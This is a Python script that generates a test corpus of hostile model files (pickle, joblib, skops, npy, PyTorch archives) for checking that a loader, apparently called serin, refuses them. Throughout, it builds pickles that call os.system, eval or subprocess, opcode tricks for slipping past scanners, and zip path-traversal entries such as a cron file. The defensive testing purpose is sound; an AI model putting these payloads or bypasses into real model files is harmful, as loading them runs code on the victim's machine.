"""Writes the hostile corpus: files that run code in whoever opens them in Python.

usage: python internal/model/format/testdata/hostile/generate.py

Needs numpy, joblib, lz4, scikit-learn and skops, any version; 2.5.5, 1.6.0, 4.4.5,
1.9.1 and 0.16.0 made the committed files. Nothing is executed here: each pickle
is checked by Python's own unpickler with a find_class that stops at the first
name which no model needs, and that must be the name that the exploit is about.

hostile.zip holds the files, and expected.json: for each file the words that
serin's refusal must have.
"""

import bz2
import gzip
import io
import itertools
import json
import lzma
import os
import pickle
import re
import struct
import zipfile
import zlib

import joblib
import lz4.frame
import numpy as np
import skops.io
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import StandardScaler

files = {}  # name -> (bytes, words of the refusal)

# What a pickle of a model names itself; an exploit is about another name.
HARMLESS = re.compile(r"(numpy|joblib\.numpy_pickle|collections|_codecs|copyreg|copy_reg|sklearn)\b")


class Named(Exception):
    pass


class Watch(pickle.Unpickler):
    """Python's own reader, stopped before anything is called."""

    def find_class(self, module, name):
        if (module, name) in TARGET_NAMES or not HARMLESS.match(module):
            raise Named(f"{module}.{name}")
        return super().find_class(module, name)


def add(name, data, words, check=True):
    """Adds a file and the words of its refusal. check is the name that Python's
    reader reaches: True for the one in words, False where it is not asked."""
    assert name not in files, name
    if check:
        try:
            Watch(io.BytesIO(data)).load()
            raise AssertionError(f"{name}: Python names nothing")
        except Named as named:
            assert str(named) == (words if check is True else check), (name, str(named), words)
    files[name] = (data, words)


# The pieces of a pickle.
def text(s, protocol):
    b = s.encode()
    if protocol == 0:
        return b"V" + s.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
    if protocol < 4:
        return b"X" + struct.pack("<I", len(b)) + b
    return b"\x8c" + bytes([len(b)]) + b if len(b) < 256 else b"X" + struct.pack("<I", len(b)) + b


def named(module, name, protocol):
    if protocol < 4:
        return f"c{module}\n{name}\n".encode()
    return text(module, protocol) + text(name, protocol) + b"\x93"


def arguments(args, protocol):
    return b"(" + b"".join(text(a, protocol) for a in args) + b"t"


def whole(body, protocol):
    if protocol >= 4:
        return b"\x80" + bytes([protocol]) + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
    return (b"\x80" + bytes([protocol]) if protocol >= 2 else b"") + body + b"."


def reduce(module, name, args, protocol):
    return named(module, name, protocol) + arguments(args, protocol) + b"R"


# The names that published exploits and bypasses of scanners use, with what they
# would be called with.
TARGETS = [line.split(" ", 2) for line in """
os system id
posix system id
nt system calc.exe
os popen id
os execl /bin/sh
os spawnl /bin/sh
os putenv LD_PRELOAD
os remove /etc/passwd
subprocess Popen id
subprocess call id
subprocess run id
subprocess check_output id
subprocess getoutput id
builtins eval __import__('os').system('id')
builtins exec import os
builtins compile import os
builtins __import__ os
builtins getattr os
builtins setattr os
builtins open /etc/passwd
builtins breakpoint x
builtins map x
builtins apply x
__builtin__ eval 1
__builtin__ execfile /tmp/x.py
_io open /etc/passwd
_io FileIO /etc/passwd
io open /etc/passwd
codecs open /etc/passwd
pathlib Path /etc/passwd
shutil rmtree /
tempfile mkdtemp x
runpy run_path /tmp/x.py
runpy _run_code import os
importlib import_module os
importlib._bootstrap _call_with_frames_removed x
pydoc locate os.system
pydoc pipepager id
pkgutil resolve_name os:system
imp load_source x
timeit timeit __import__('os').system('id')
timeit Timer import os
cProfile run import os
cProfile runctx import os
profile run import os
profile Profile.run import os
trace Trace x
bdb Bdb.run import os
pdb run import os
doctest debug_script import os
doctest testfile /tmp/x
code InteractiveInterpreter x
code interact x
codeop compile_command import os
idlelib.pyshell ModifiedInterpreter.runcode x
idlelib.autocomplete AutoComplete.get_entity x
idlelib.run Executive.runcode x
lib2to3.pgen2.grammar Grammar.loads x
lib2to3.pgen2.pgen ParserGenerator.make_label x
operator attrgetter system
operator methodcaller system
operator itemgetter 0
functools reduce x
functools partial x
itertools starmap x
types FunctionType x
types CodeType x
marshal loads x
pickle loads x
_pickle loads x
pickle Unpickler x
dill loads x
dill._dill _create_function x
cloudpickle.cloudpickle _make_function x
joblib load /tmp/x.joblib
joblib.numpy_pickle load /tmp/x.joblib
numpy load /tmp/x.npy
numpy fromfile /tmp/x
numpy memmap /etc/passwd
numpy.testing._private.utils runstring import os
numpy.f2py.crackfortran getlincoef import os
numpy.f2py.crackfortran _eval_length import os
numpy.distutils.exec_command exec_command id
numpy.lib.npyio load /tmp/x.npy
numpy.lib._utils_impl safe_eval 1
scipy.io loadmat /tmp/x
sklearn.datasets load_files /etc
sklearn.utils.fixes parse_version 1
sklearn.externals.joblib load /tmp/x
pandas read_pickle http://127.0.0.1:1/x
pandas eval 1
pandas.core.computation.eval eval 1
torch load /tmp/x.pt
torch.hub load evil/repo
torch.jit.unsupported_tensor_ops execWrapper import os
torch.utils._config_module load_config x
torch.utils.bottleneck.__main__ run_cprofile import os
torch._dynamo.guards GuardBuilder.get x
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression x
torch.utils.collect_env run id
torch.utils.data.datapipes.utils.decoder basichandlers x
keras.models load_model /tmp/x
tensorflow.python.framework.load_library load_op_library /tmp/x.so
ctypes CDLL /tmp/x.so
ctypes.util find_library c
_ctypes dlopen /tmp/x.so
cffi FFI x
pty spawn /bin/sh
platform popen id
commands getoutput id
asyncio.unix_events _UnixSubprocessTransport._start id
asyncio.subprocess create_subprocess_shell id
multiprocessing.util spawnv_passfds /bin/sh
concurrent.futures.process _ExecutorManagerThread x
threading Thread x
signal signal x
sys exit 0
sys setrecursionlimit 9
site addsitedir /tmp
pip main install
pip._internal main install
pip._internal.cli.main main install
ensurepip _run_pip install
ensurepip.__main__ _main x
venv create /tmp/x
venv EnvBuilder.create /tmp/x
distutils.spawn spawn id
distutils.file_util write_file /tmp/x
setuptools setup x
webbrowser open http://127.0.0.1:1/
urllib.request urlopen http://127.0.0.1:1/
urllib.request urlretrieve http://127.0.0.1:1/
urllib urlopen http://127.0.0.1:1/
http.client HTTPConnection 127.0.0.1
requests get http://127.0.0.1:1/
requests.api get http://127.0.0.1:1/
aiohttp.client ClientSession x
socket create_connection 127.0.0.1
socket socket x
ssl get_server_certificate 127.0.0.1
smtplib SMTP 127.0.0.1
ftplib FTP 127.0.0.1
telnetlib Telnet 127.0.0.1
xmlrpc.client ServerProxy http://127.0.0.1:1/
socketserver TCPServer x
logging.config listen x
logging.config fileConfig /tmp/x
logging FileHandler /tmp/x
shelve open /tmp/x
dbm open /tmp/x
sqlite3 connect /tmp/x
zipimport zipimporter /tmp/x.zip
zipfile ZipFile /tmp/x.zip
tarfile open /tmp/x.tar
linecache getlines /etc/passwd
fileinput input /etc/passwd
glob glob /etc/*
gc get_objects x
inspect getattr_static x
unittest.mock _importer os
unittest.mock patch os.system
test.support.script_helper run_python_until_end x
test.support run_code import os
turtle Screen x
tkinter Tk x
uuid _get_command_stdout id
_posixsubprocess fork_exec id
_xxsubinterpreters run_string import os
_aix_support _read_cmd_output id
_osx_support _read_output id
_pyrepl.pager pipe_pager id
antigravity geohash x
this s x
yaml unsafe_load x
jsonpickle decode x
mlflow.pyfunc load_model /tmp/x
transformers.dynamic_module_utils get_class_from_dynamic_module x
__main__ Evil x
evil_package Model x
""".strip().splitlines()]
TARGET_NAMES = {(module, name) for module, name, _ in TARGETS}


def targets():
    """Each name, called by REDUCE, in one protocol after the other."""
    for i, (module, name, arg) in enumerate(TARGETS):
        protocol = i % 6
        if "." in name and protocol < 4:
            protocol = 4  # only since then may a name have dots
        add(f"names/{module}.{name}-protocol{protocol}.pkl", whole(reduce(module, name, [arg], protocol), protocol), f"{module}.{name}")


def techniques():
    """os.system by every opcode that can reach it."""
    system = ("os", "system", ["id"])
    for protocol in range(6):
        add(f"opcodes/reduce-protocol{protocol}.pkl", whole(reduce(*system, protocol), protocol), "os.system")

        class Evil:
            def __reduce__(self):
                return os.system, ("id",)
        add(f"opcodes/python-protocol{protocol}.pkl", pickle.dumps(Evil(), protocol), "posix.system")
        add(f"opcodes/in-a-list-protocol{protocol}.pkl", pickle.dumps([1, {"a": (Evil(),)}], protocol), "posix.system")

    def op(name, data, words="os.system", check=True):
        add(f"opcodes/{name}.pkl", data, words, check)

    op("inst", b"(S'id'\nios\nsystem\n.")
    op("inst-unicode", b"(Vid\niposix\nsystem\n.", "posix.system")
    op("obj", b"(cos\nsystem\nS'id'\no.")
    op("newobj", b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85\x81.")
    op("newobj-ex", b"\x80\x04" + named(*system[:2], 4) + b")}" + text("a", 4) + text("id", 4) + b"s\x92.")
    op("popen-newobj", b"\x80\x02csubprocess\nPopen\nX\x02\x00\x00\x00id\x85\x81.", "subprocess.Popen")
    op("build-setstate", b"\x80\x02csklearn.base\nBaseEstimator\n)\x81}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsbX\x02\x00\x00\x00idb.", "names sklearn.base.BaseEstimator", False)
    op("build-setstate-of-a-model", b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n)\x81}X\x0c\x00\x00\x00__setstate__cos\nsystem\nsb.")
    op("build-class", b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n)\x81}X\x09\x00\x00\x00__class__cnumpy\nndarray\nsb.", "sets __class__", False)
    op("build-of-a-type", b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n}X\x08\x00\x00\x00__init__cos\nsystem\nsb.")
    op("build-slots", b"\x80\x02csklearn.linear_model._logistic\nLogisticRegression\n)\x81N}X\x0a\x00\x00\x00__reduce__Ns\x86b.", "sets __reduce__", False)
    op("ext1", b"\x80\x02\x82\x01)R.", "EXT1 refers to Python's extension registry", False)
    op("ext2", b"\x80\x02\x83\x01\x01)R.", "EXT2 refers to Python's extension registry", False)
    op("ext4", b"\x80\x02\x84\x01\x00\x00\x00)R.", "EXT4 refers to Python's extension registry", False)
    op("persid", b"\x80\x02Pid\n.", "PERSID refers to an object", False)
    op("binpersid", b"\x80\x02X\x02\x00\x00\x00idQ.", "BINPERSID refers to an object", False)
    op("next-buffer", b"\x80\x05\x97.", "NEXT_BUFFER refers to a buffer", False)
    op("stack-global", b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R.")
    op("stack-global-memo", b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94h\x00h\x01\x93\x8c\x02id\x85R.")
    op("stack-global-swapped", b"\x80\x04\x8c\x06system\x94\x8c\x02os\x940h\x01h\x00\x93\x8c\x02id\x85R0.", check=False)
    op("stack-global-long", b"\x80\x04X\x02\x00\x00\x00osX\x06\x00\x00\x00system\x93)R.")
    op("stack-global-8", b"\x80\x04\x8d\x02\x00\x00\x00\x00\x00\x00\x00os\x8d\x06\x00\x00\x00\x00\x00\x00\x00system\x93)R.")
    op("stack-global-escaped", b"\x80\x04V\\u006f\\u0073\nV\\u0073ystem\n\x93)R.")
    op("stack-global-strings", b"\x80\x04U\x02osU\x06system\x93)R.")
    op("stack-global-quoted", b"\x80\x04S'o\\x73'\nS'sys\\x74em'\n\x93)R.")
    op("stack-global-from-a-tuple", b"\x80\x04\x8c\x02os\x8c\x06system\x86\x940\x8c\x02os\x8c\x06system\x93)R.")
    op("stack-global-dotted", b"\x80\x04\x8c\x10sklearn.pipeline\x8c\x09os.system\x93)R.", "sklearn.pipeline.os.system", False)
    op("global-dotted-module", b"\x80\x02csklearn.pipeline.os\nsystem\n)R.", "sklearn.pipeline.os.system", False)
    op("global-with-a-space", b"\x80\x02cos \nsystem\n)R.", '"os ".system', False)
    op("global-return", b"\x80\x02cos\r\nsystem\n)R.", '"os\\r".system', False)
    op("global-full-width", "\ufeff".encode() + b"\x80\x02cos\nsystem\n)R.", "does not begin like a pickle", False)
    op("global-look-alike", b"\x80\x02c" + "\u043es".encode() + b"\nsystem\n)R.", "\u043es.system", False)
    op("global-unused", b"\x80\x02cos\nsystem\n0N.")
    op("global-in-the-memo", b"\x80\x02cos\nsystem\nq\x000N.")
    op("mark-junk", b"\x80\x02((((cos\nsystem\n1110N.", check=False)
    op("dup-junk", b"\x80\x02N2221111cos\nsystem\n)R.", "no MARK is set", False)
    op("pop-before", b"\x80\x02]0}0(10cos\nsystem\n)R.", "the stack is empty", False)
    op("after-stop", b"\x80\x02N." + whole(reduce(*system, 2), 2), "more bytes follow", False)
    op("after-a-model", pickle.dumps(LogisticRegression(), 4) + whole(reduce(*system, 2), 2), "more bytes follow", False)
    op("no-stop", reduce(*system, 2))
    op("broken-after-the-call", reduce(*system, 2) + b"\xff\xff")
    op("proto-in-the-middle", b"\x80\x02N0\x80\x04" + reduce(*system, 4) + b".", "PROTO stands in the middle", False)
    op("protocol-255", b"\x80\xff" + reduce(*system, 2) + b".", "protocol 255 is newer", False)
    op("frame-that-lies", b"\x80\x04\x95\x01\x00\x00\x00\x00\x00\x00\x00" + reduce(*system, 4) + b".")
    op("as-a-key", b"\x80\x02}" + reduce(*system, 2) + b"Ns.")
    op("in-a-set", b"\x80\x04\x8f(" + reduce(*system, 4) + b"\x90.")
    op("in-a-frozenset", b"\x80\x04(" + reduce(*system, 4) + b"\x91.")
    op("call-of-a-string", b"\x80\x02X\x06\x00\x00\x00systemX\x02\x00\x00\x00id\x85R.", "calls the string", False)
    op("call-of-a-call", b"\x80\x02ccollections\nOrderedDict\n)R)R.", "calls a dict", False)
    op("reconstructor", b"ccopy_reg\n_reconstructor\n(cos\nsystem\nc__builtin__\nobject\nNtR.")
    op("reconstructor-of-a-type", b"ccopy_reg\n_reconstructor\n(cbuiltins\nint\ncbuiltins\nobject\nNtR.", "makes an instance of the name builtins.int", False)
    op("newobj-function", b"\x80\x02ccopyreg\n__newobj__\n(csubprocess\nPopen\nX\x02\x00\x00\x00idtR.", "subprocess.Popen")
    op("codecs", b"\x80\x02c_codecs\ndecode\nX\x02\x00\x00\x00idX\x05\x00\x00\x00rot13\x86R.", "_codecs.decode", False)
    op("codec-of-strangers", b"\x80\x02c_codecs\nencode\nX\x02\x00\x00\x00idX\x05\x00\x00\x00evil_\x86R.", "Latin-1 text is expected", False)
    op("default-factory", b"\x80\x02ccollections\ndefaultdict\n(cos\nsystem\ntR.")
    op("default-factory-called", b"\x80\x02ccollections\ndefaultdict\n(cbuiltins\nexec\ntR.", "builtins.exec")
    op("ufunc-of-strangers", b"\x80\x02cnumpy.core\n_ufunc_reconstruct\n(X\x02\x00\x00\x00osX\x06\x00\x00\x00systemtR.", check=False)


def chains():
    """What gets to a function by way of others."""
    add("chains/getattr.pkl", whole(named("builtins", "getattr", 2) + b"(" + named("builtins", "__import__", 2) + arguments(["os"], 2) + b"R" + text("system", 2) + b"tR" + arguments(["id"], 2) + b"R", 2), "builtins.getattr")
    add("chains/attrgetter.pkl", whole(named("operator", "attrgetter", 4) + arguments(["system"], 4) + b"R" + named("os", "path", 4) + b"\x85R", 4), "operator.attrgetter")
    add("chains/methodcaller.pkl", whole(named("_operator", "methodcaller", 4) + arguments(["system", "id"], 4) + b"R", 4), "_operator.methodcaller")
    add("chains/reduce.pkl", whole(named("functools", "reduce", 4) + b"(" + named("os", "system", 4) + b"](" + text("id", 4) + b"et" + b"R", 4), "functools.reduce")
    # Python's list may be mentioned, and so may its type below.
    add("chains/map-list.pkl", whole(named("builtins", "list", 4) + b"(" + named("builtins", "map", 4) + b"(" + named("os", "system", 4) + b"](" + text("id", 4) + b"etRtR", 4), "builtins.map", "builtins.list")
    add("chains/partial.pkl", whole(named("os", "system", 4) + b"\x940" + named("functools", "partial", 4) + b"(h\x00" + text("id", 4) + b"tR", 4), "os.system")
    add("chains/globals.pkl", whole(named("builtins", "globals", 4) + b")R", 4), "builtins.globals")
    add("chains/dict-get.pkl", whole(named("builtins", "dict.get", 4) + b"(}" + text("a", 4) + b"tR", 4), "builtins.dict.get")
    add("chains/str-format.pkl", whole(named("builtins", "str.format", 4) + b"(" + text("{0.__class__}", 4) + b"NtR", 4), "builtins.str.format")
    add("chains/type.pkl", whole(named("builtins", "type", 4) + b"(" + text("A", 4) + b")}" + text("__del__", 4) + named("os", "abort", 4) + b"stR", 4), "os.abort", "builtins.type")
    add("chains/numpy-method.pkl", whole(named("numpy", "ndarray.tofile", 4) + b"(N" + text("/tmp/x", 4) + b"tR", 4), "numpy.ndarray.tofile", False)
    add("chains/estimator-method.pkl", whole(named("sklearn.linear_model._logistic", "LogisticRegression.__init__.__globals__", 4) + b")R", 4), "LogisticRegression.__init__.__globals__", False)
    add("chains/pipeline-memory.pkl", whole(named("joblib.memory", "Memory", 4) + arguments(["/tmp/x"], 4) + b"R", 4), "joblib.memory.Memory", False)


class Call:
    def __init__(self, *call):
        self.call = call

    def __reduce__(self):
        return self.call


def nested():
    """Calls inside of arrays and of real models, by pickle and by joblib."""
    evil = Call(os.system, ("id",))
    array = np.array([1, evil, "x"], dtype=object)
    for protocol in range(6):
        add(f"arrays/object-array-protocol{protocol}.pkl", pickle.dumps(array, protocol), "posix.system")

    def joblib_file(name, value, words="posix.system", **kw):
        b = io.BytesIO()
        joblib.dump(value, b, **kw)
        add(f"arrays/{name}", b.getvalue(), words, False)

    joblib_file("object-array.joblib", array)
    joblib_file("array-in-an-array.joblib", np.array([np.array([evil, None], dtype=object), None], dtype=object))
    joblib_file("in-a-dict.joblib", {"model": evil})
    for protocol in (2, 3, 4, 5):
        joblib_file(f"object-array-protocol{protocol}.joblib", [array], protocol=protocol)
    for method in ("zlib", "gzip", "bz2", "xz", "lzma", "lz4"):
        joblib_file(f"object-array-{method}.joblib", array, compress=(method, 3))

    scaler = StandardScaler().fit([[0.0, 1], [1, 3]])
    model = LogisticRegression().fit([[0.0, 1], [1, 3]], [0, 1])
    model.coef_ = Call(os.system, ("id",))
    joblib_file("coefficients.joblib", model)
    add("arrays/coefficients.pkl", pickle.dumps(model), "posix.system", False)
    model = LogisticRegression().fit([[0.0, 1], [1, 3]], [0, 1])
    model.classes_ = np.array([evil, 1], dtype=object)
    joblib_file("classes.joblib", model)
    pipeline = make_pipeline(scaler, LogisticRegression().fit([[0.0, 1], [1, 3]], [0, 1]))
    pipeline.steps.append(("last", evil))
    joblib_file("pipeline-step.joblib", pipeline)
    pipeline.steps[-1] = ("last", Call(eval, ("__import__('os').system('id')",)))
    joblib_file("pipeline-eval.joblib", pipeline, "builtins.eval")
    scaler.mean_ = evil
    joblib_file("mean.joblib", scaler)
    dtype = b"cnumpy\ndtype\n(" + text("f8", 2) + b"\x89\x88tR"
    wrapper = b"\x80\x02cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x81}("
    add("arrays/wrapper-subclass.joblib", wrapper + text("subclass", 2) + b"cos\nsystem\nub.", "os.system", False)
    add("arrays/wrapper-of-a-function.joblib", wrapper + text("subclass", 2) + b"cnumpy\nfloat64\n" + text("shape", 2) + b"K\x01\x85" + text("order", 2) + text("C", 2) + text("dtype", 2) + dtype + b"ub" + bytes(8) + b".", "arrays of the name numpy.float64", False)
    add("arrays/reconstruct-of-a-function.pkl", b"\x80\x02cnumpy.core.multiarray\n_reconstruct\n(cos\nsystem\nK\x00\x85U\x01btR.", "os.system", False)
    add("arrays/scalar-of-objects.pkl", b"\x80\x02cnumpy.core.multiarray\nscalar\n(cnumpy\ndtype\n(" + text("O8", 2) + b"\x89\x88tR" + text("x", 2) + b"tR.", "numbers or text is expected", False)


def containers():
    """One call in every wrapping."""
    evil = whole(reduce("os", "system", ["id"], 2), 2)
    wraps = {
        "zlib": zlib.compress, "gzip": lambda b: gzip.compress(b, mtime=0), "bz2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda b: lzma.compress(b, lzma.FORMAT_ALONE), "lz4": lz4.frame.compress,
    }
    for name, wrap in wraps.items():
        for protocol in (0, 2, 4):
            add(f"containers/{name}-protocol{protocol}", wrap(whole(reduce("os", "system", ["id"], protocol), protocol)), "os.system", False)
        add(f"containers/{name}-twice", wrap(wrap(evil)), "it was compressed twice", False)
        # What follows looks like more of the same to these two.
        more = "is damaged" if name in ("bz2", "lz4") else "more bytes follow"
        add(f"containers/{name}-then-more", wrap(b"\x80\x02N.") + evil, more, False)
    add("containers/gzip-members", wraps["gzip"](b"\x80\x02N.") + wraps["gzip"](evil), "more bytes follow", False)
    add("containers/zlib-cut", wraps["zlib"](evil * 9)[:-6], "os.system", False)


def archived(entries, method=zipfile.ZIP_STORED):
    b = io.BytesIO()
    with zipfile.ZipFile(b, "w", method) as z:
        for name, data in entries:
            z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data)
    return b.getvalue()


def skops_files():
    """Archives of skops that a careless reader would follow."""
    model = make_pipeline(StandardScaler(), LogisticRegression()).fit([[0.0, 1], [1, 3]], [0, 1])
    source = zipfile.ZipFile(io.BytesIO(skops.io.dumps(model)))
    entries = [(n, source.read(n)) for n in source.namelist()]
    ids = {}
    schema = source.read("schema.json").decode()
    for address in re.findall(r'"__id__": (\d+)', schema):
        ids.setdefault(address, str(len(ids) + 1))
    steady = lambda s: re.sub(r"\b\d{9,}\b", lambda m: ids.get(m[0], m[0]), s)
    entries = [(steady(n), steady(d.decode()).encode() if n == "schema.json" else d) for n, d in entries]
    tree = json.loads(dict(entries)["schema.json"])
    array = next(n for n, _ in entries if n.endswith(".npy"))

    def case(name, words, change=None, extra=(), replace=None, damage=None):
        t = json.loads(json.dumps(tree))
        if change:
            change(t)
        parts = [(n, json.dumps(t).encode() if n == "schema.json" else (replace or {}).get(n, d)) for n, d in entries]
        data = archived(parts + list(extra))
        add(f"skops/{name}.skops", damage(data) if damage else data, words, False)

    def coefficient(node):
        def change(t):
            steps = t["content"]["content"]["steps"]["content"]
            steps[1]["content"][1]["content"]["content"]["coef_"] = node
        return change

    numbers = itertools.count(10**6)

    def node(loader, module, cls, **more):
        return {"__loader__": loader, "__module__": module, "__class__": cls, "__id__": next(numbers), **more}

    none = node("JsonNode", "builtins", "str", content="null")
    args = node("TupleNode", "builtins", "tuple", content=[none])
    system = node("FunctionNode", "os", "system")
    case("function", "os.system", coefficient(node("FunctionNode", "os", "system")))
    case("function-old", "os.system", lambda t: (t.update(protocol=0), coefficient(node("FunctionNode", "x", "function", content={"module_path": "os", "function": "system"}))(t)))
    case("type", "builtins.eval", coefficient(node("TypeNode", "builtins", "eval")))
    case("object", "subprocess.Popen", coefficient(node("ObjectNode", "subprocess", "Popen", content=none)))
    case("constructor", "os.system", coefficient(node("ConstructorFromReduceNode", "os", "system", content=args)))
    case("reduce", "os.system", coefficient(node("TreeNode", "os", "system", content=none, __reduce__={"args": args})))
    case("loss", "builtins.exec", coefficient(node("LossNode", "builtins", "exec", content=none, __reduce__={"args": args})))
    case("partial", "os.system", coefficient(node("PartialNode", "functools", "partial", content={"func": system, "args": args, "kwds": none, "namespace": none})))
    case("method", "a method or operator to call", coefficient(node("MethodNode", "sklearn.pipeline", "Pipeline", content={"func": "fit", "obj": none})))
    case("operator", "a method or operator to call", coefficient(node("OperatorFuncNode", "operator", "attrgetter", attrs=args)))
    case("operator-named-otherwise", "a method or operator to call", coefficient(node("OperatorFuncNode", "os", "system", attrs=args)))
    case("random", "names numpy.random.seed", coefficient(node("RandomGeneratorNode", "numpy.random", "Generator", content={"bit_generator": node("TypeNode", "numpy.random", "seed"), "seed_seq": none})))
    case("cached", "contains itself", lambda t: coefficient({"__id__": t["__id__"], "__loader__": "CachedNode"})(t))
    case("traversal", "../../etc/cron.d/evil", extra=[("../../etc/cron.d/evil", b"* * * * * root id\n")])
    case("absolute", "/etc/passwd", extra=[("/etc/passwd", b"")])
    case("module", "sklearn.py", extra=[("sklearn.py", b"import os; os.system('id')")])
    case("pickle-beside", "data.pkl", extra=[("data.pkl", whole(reduce("os", "system", ["id"], 2), 2))])
    case("file-outside", "/etc/passwd", lambda t: coefficient(node("NdArrayNode", "numpy", "ndarray", type="numpy", file="/etc/passwd"))(t))
    buffer = io.BytesIO()
    np.save(buffer, np.array([Call(os.system, ("id",))], dtype=object), allow_pickle=True)
    case("pickle-in-an-array", "arrays of dtype |O are not read", replace={array: buffer.getvalue()})
    case("pickle-as-an-array", "does not begin as numpy writes it", replace={array: whole(reduce("os", "system", ["id"], 2), 2)})
    case("header-of-code", "where { is expected", replace={array: b"\x93NUMPY\x01\x00\x20\x00" + b"__import__('os').system('id')    "})
    case("checksum", "its checksum differs", damage=lambda d: d.replace(b"NUMPY\x01\x00v", b"NUMPY\x01\x00u", 1))

    def directory(offset, value):  # in the first line of the table of contents
        def damage(data):
            at = data.index(b"PK\x01\x02") + offset
            return data[:at] + value + data[at + len(value):]
        return damage
    case("encrypted", "is encrypted", damage=directory(8, b"\x01\x00"))
    case("size-that-lies", "claims 2147483647 bytes", damage=directory(24, b"\xff\xff\xff\x7f"))
    case("zip64-that-lies", "cut or damaged", damage=directory(20, b"\xff" * 8))
    case("offset-that-lies", "lies outside of the file", damage=directory(42, b"\xff\xff\xff\x7f"))
    add("skops/cut.skops", archived(entries)[:-9], "cut", False)
    twice = archived(entries + [("schema.jsoN", b"{}")]).replace(b"schema.jsoN", b"schema.json")
    add("skops/schema-twice.skops", twice, "two entries of the name schema.json", False)


def strangers():
    """Other files that run code where they are at home."""
    evil = whole(reduce("os", "system", ["id"], 2), 2)
    buffer = io.BytesIO()
    np.save(buffer, np.array([Call(os.system, ("id",))], dtype=object), allow_pickle=True)
    add("strangers/objects.npy", buffer.getvalue(), "numpy", False)
    add("strangers/objects.npz", archived([("arr_0.npy", buffer.getvalue())]), "numpy", False)
    add("strangers/pytorch.pt", archived([("archive/data.pkl", evil), ("archive/version", b"3\n")]), "PyTorch", False)
    add("strangers/pytorch-old.pt", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + evil, "PyTorch", False)
    add("strangers/zip-of-a-pickle.zip", archived([("model.pkl", evil)]), "zip archive", False)
    add("strangers/script.py", b"import os\nos.system('id')\n", "plain text", False)
    add("strangers/elf.joblib", b"\x7fELF\x02\x01\x01" + bytes(64), "a program", False)


targets()
techniques()
chains()
nested()
containers()
skops_files()
strangers()

here = os.path.dirname(os.path.abspath(__file__))
with zipfile.ZipFile(f"{here}/hostile.zip", "w", zipfile.ZIP_DEFLATED) as z:
    def write(name, data):
        z.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED, 9)
    write("expected.json", json.dumps({name: words for name, (_, words) in sorted(files.items())}, indent=0, ensure_ascii=False))
    for name, (data, _) in sorted(files.items()):
        write(name, data)
print(len(files), "files")
